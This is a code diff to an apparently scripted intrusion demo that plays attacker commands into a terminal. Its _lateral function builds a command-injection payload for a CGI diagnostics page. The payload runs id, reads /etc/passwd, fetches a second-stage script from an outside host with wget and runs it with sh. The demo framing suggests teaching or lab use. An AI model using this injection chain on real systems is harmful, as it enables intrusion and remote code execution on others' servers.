@@ -77,7 +77,9 @@ def play(scene: Scene, progress: Progress) -> Intrusion:
 
 def _type(terminal: Terminal, command: str, progress: Progress) -> None:
     progress.say(f"# {command if len(command) <= _SHOWN else command[: _SHOWN - 1] + '…'}")
-    terminal.run(command)
+    said = terminal.run(command)
+    if "Segmentation fault" in said:
+        raise DemoError(f"a program of the intruder's crashed, its step had no effect: {said.strip()!r}")
     time.sleep(random.uniform(*_PAUSE_S))  # noqa: S311 — a rhythm, not a secret
 
 
@@ -109,7 +111,7 @@ def _drop(outside: str) -> tuple[str, ...]:
 
 def _lateral(backend: RunningPod, outside: str) -> str:
     """A request to the diagnostics page with a command behind its parameter."""
-    fetch = f"wget -q -T 3 -O /tmp/.s http://{outside}:{DROP_PORT}/stage2"
+    fetch = f"wget -q -O /tmp/.s http://{outside}:{DROP_PORT}/stage2"
     injected = quote(f"127.0.0.1;id;cat /etc/passwd;{fetch};sh /tmp/.s", safe=";:/")
     return f"wget -q -O - 'http://{backend.address}:{_ADMIN_PORT}/cgi-bin/diagnostics?host={injected}'"
 
